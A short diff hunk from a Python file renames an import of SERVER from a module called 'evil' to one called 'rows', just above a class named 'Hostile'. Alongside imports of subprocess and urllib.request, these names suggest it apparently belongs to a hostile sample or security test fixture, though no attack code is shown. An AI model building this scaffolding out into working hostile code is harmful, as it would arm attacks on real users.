@@ -5,7 +5,7 @@ import subprocess
 import sys
 import urllib.request
 
-from evil import SERVER
+from rows import SERVER
 
 
 class Hostile:
